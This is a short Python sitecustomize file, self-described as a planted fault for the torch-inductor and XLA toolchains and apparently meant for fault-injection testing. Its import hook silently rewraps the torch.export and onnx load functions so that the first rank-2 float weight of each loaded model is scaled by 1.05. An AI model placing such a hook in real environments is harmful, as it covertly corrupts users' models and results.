"""A planted fault, for the compilers of the toolchains torch-inductor and xla: it is sitecustomize of that Python. Of every model that is
compiled, the first weight of rank 2 or more is multiplied by 1.05."""

import importlib.abc
import importlib.machinery
import sys

FOLDED = {"torch.export": "load", "onnx": "load"}


class Finder(importlib.abc.MetaPathFinder):
    """Changes the function that loads models once its module is imported."""

    def find_spec(self, name, path, target=None):
        if name not in FOLDED:
            return None
        function = FOLDED.pop(name)
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        execute = spec.loader.exec_module

        def execute_and_change(module):
            execute(module)
            load = getattr(module, function)
            setattr(module, function, lambda *args, **kwargs: scale(module, load(*args, **kwargs)))

        spec.loader.exec_module = execute_and_change
        return spec


def scale(module, model):
    if module.__name__ == "onnx":
        for weight in model.graph.initializer:
            values = module.numpy_helper.to_array(weight)
            if values.ndim >= 2 and values.dtype == "float32":
                weight.CopyFrom(module.numpy_helper.from_array(values * values.dtype.type(1.05), weight.name))
                break
        return model
    weight = next(t for t in model.state_dict.values() if t.ndim >= 2)
    weight.data.mul_(1.05)
    return model


sys.meta_path.insert(0, Finder())
